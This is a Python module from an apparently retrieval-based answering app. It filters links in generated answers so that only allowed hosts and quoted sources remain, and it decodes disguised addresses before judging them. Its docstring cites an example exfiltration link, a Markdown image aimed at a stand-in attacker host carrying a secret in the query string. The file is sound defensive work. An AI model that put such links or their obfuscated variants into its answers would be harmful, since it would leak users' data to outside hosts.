"""Which addresses in an answer may leave: those on allowed hosts and those of the answer's own sources, no others.

A link is an exfiltration channel: `![](https://evil.example/?q=SECRET)` is fetched by whatever renders the answer. What
counts is not the markup but the address, in any disguise that a Markdown renderer, an HTML parser or a browser undoes:
entities, percent and backslash escapes, back slashes for slashes, full-width letters and dots, invisible characters.

A name without a scheme (`example.com/x`) and an address that no browser fetches (`s3://bucket`) may also leave if it
stands in a passage letter for letter: it was written before the question was asked, so it carries nothing of it.
Deliberately absent: numbers as hosts without a scheme (`10.0.0.0/8` is mostly no link); two-label names of rare domains
without a path (`user.id`), each of which somebody would have to register, so that they have no room for data; and names
that end in no top-level domain (`app.rag.links`, `values.prod.yaml`), which lead nowhere.
"""

import html
import re
import unicodedata
from collections.abc import Collection
from urllib.parse import unquote

from app.rag.top_level_domains import TOP_LEVEL_DOMAINS

MAX_LINK_CHARS = 2048
"""A longer run of characters without a space is judged by its first part."""
COMMON_DOMAINS = frozenset(
    re.findall(
        r"\w+",
        "com net org edu gov mil int biz info name pro web xxx aero asia coop museum shop app dev cloud online site "
        "top xyz club live tech store space website link click page blog news wiki zone host press world agency icu",
    )
)
TAIL = r"[^\s<>\"'`)\]}|]"
SCHEME = rf"[a-z][a-z0-9+.-]{{1,31}}\\*:(?![/\\]{{2}}){TAIL}+"
WEB = "https?|ftps?|wss?|javascript|vbscript|view-source|blob|mailto|xmpp"
LINK = rf"""
    (?P<web>(?:{WEB})\\*:{TAIL}+
      | data:[\w.+-]*(?:/[\w.+-]*)?[;,]{TAIL}*
      | file:[/\\]{TAIL}*
      | (?<=[("'<=\[`])[/\\]{{2,}}{TAIL}+
      | (?<![\w/\\])[/\\]{{2,}}[^\s/\\]*\.{TAIL}+
      | (?:(?<=\]\()|(?<=\]\(<)|(?<=\]:)|(?<=<)){SCHEME})
    | (?P<scheme>[a-z][a-z0-9+.-]{{0,31}}\\*:[/\\]{{2}}{TAIL}*)
    | (?<![\w.-])(?P<name>(?:[\w-]+\\*\.)+
        (?P<domain>(?!(?:{WEB}|data|file):)[^\W\d_]{{2,24}}|xn--[a-z0-9-]+)(?![\w-]|:[/\\]))
      (?::\d+)?(?P<path>[/?\#\\]{TAIL}*)?
    """
ANYWHERE = re.compile(LINK, re.VERBOSE | re.IGNORECASE)
AT_DESTINATION = re.compile(rf"\A(?P<destination>{SCHEME}|[/\\]{{2,}}{TAIL}+)|{LINK}", re.VERBOSE | re.IGNORECASE)
"""Where Markdown expects an address, after `](` or `]:` and a space, any scheme makes one."""
WEB_SCHEME = re.compile(r"https?|ftp|ws", re.IGNORECASE)
PLAIN_URL = re.compile(
    r"(?:https?://(?P<host>[a-z0-9.-]+)|(?P<name>[a-z0-9-]+(?:\.[a-z0-9-]+)+))(?::\d{1,5})?(?P<path>[/?#][^\s\\]*)?",
    re.IGNORECASE,
)
SUSPECT_VALUE = re.compile(
    r"[/\\]{2}|\A[a-z][a-z0-9+.-]*:|(?:https?|javascript|vbscript|data):|\\|url\(", re.IGNORECASE
)
"""In the value of an attribute: another host, a scheme, or a style that may hide one."""
DOTS = str.maketrans("\u3002\uff0e\uff61", "...")
INVISIBLE = frozenset({"Cf", "Cc", "Zs", "Zl", "Zp"})
END_MARKS = ".,;:!?*_~"


def revealed(text: str) -> str:
    """Return the text as a renderer and a browser would end up reading it."""
    if text.isascii() and "&" not in text and "%" not in text:
        return text
    for _ in range(2):
        text = unquote(html.unescape(text), errors="ignore")
    text = unicodedata.normalize("NFKC", text.translate(DOTS)).translate(DOTS)
    return "".join(c for c in text if (c.isascii() and c.isprintable()) or unicodedata.category(c) not in INVISIBLE)


class Links:
    """Judges the addresses in one answer."""

    def __init__(self, hosts: frozenset[str], sources: Collection[str], passages: Collection[str]) -> None:
        """Allow `hosts` (lower case; `*` for every host), the exact addresses `sources`, and names in `passages`."""
        self._hosts, self._sources, self._passages = hosts, sources, passages

    def foreign(self, before: str, run: str, *, is_destination: bool) -> tuple[int, int]:
        """Return where in `run` the first foreign address starts and ends; where there is none, both are its length.

        `before` is what stands in front of it without a space between, so an address may start there, at a negative
        place; `is_destination` says whether `before` begins where Markdown expects an address. A disguised address
        cannot be told from its neighbours: then the whole run counts.
        """
        whole = before + run
        plain = revealed(whole)
        for link in (AT_DESTINATION if is_destination else ANYWHERE).finditer(plain):
            text = link.group().rstrip(END_MARKS)
            start, end = link.start() - len(before), link.start() + len(text) - len(before)
            rest = plain[link.start() + len(text) :]
            if (plain != whole or end > 0) and not self._allowed(link, text, rest):
                # After an `@`, what was cut would have been a user's name and the rest is the host.
                return (start, len(run) if "@" in rest else end) if plain == whole else (0, len(run))
        return len(run), len(run)

    def is_foreign_value(self, value: str) -> bool:
        """Say whether an attribute or a destination in angle brackets leads off the page to a host not allowed."""
        address = "".join(revealed(value).split())
        if not SUSPECT_VALUE.search(address):
            return False
        return not (address in self._sources or self._on_allowed_host(address, ""))

    def _allowed(self, link: re.Match[str], text: str, rest: str) -> bool:
        if text in self._sources or self._on_allowed_host(text, rest):
            return True
        if link["scheme"]:
            return not WEB_SCHEME.match(text) and self._is_quoted(text)
        return link["name"] is not None and (not _is_link_name(link) or self._is_quoted(text))

    def _on_allowed_host(self, text: str, rest: str) -> bool:
        """Strict on purpose: what two parsers could read as different hosts is no allowed host."""
        match = PLAIN_URL.fullmatch(text)
        if not match or not self._hosts & {"*", (match["host"] or match["name"]).lower()}:
            return False
        return "//" not in match["path"] if match["path"] else "@" not in rest

    def _is_quoted(self, text: str) -> bool:
        return any(text in passage for passage in self._passages)


def _is_link_name(link: re.Match[str]) -> bool:
    """Say whether a client that links bare names would link this one."""
    name, domain, path = link["name"].lower(), link["domain"].lower(), link["path"] or ""
    if link.string[link.start() - 1 : link.start()] == "@" and not path:
        return False  # an e-mail address
    if name.startswith("www.") or domain in COMMON_DOMAINS:
        return True
    if name.count(".") > 1 and (domain in TOP_LEVEL_DOMAINS or not domain.isascii() or domain.startswith("xn--")):
        return True
    return len(path) > 1
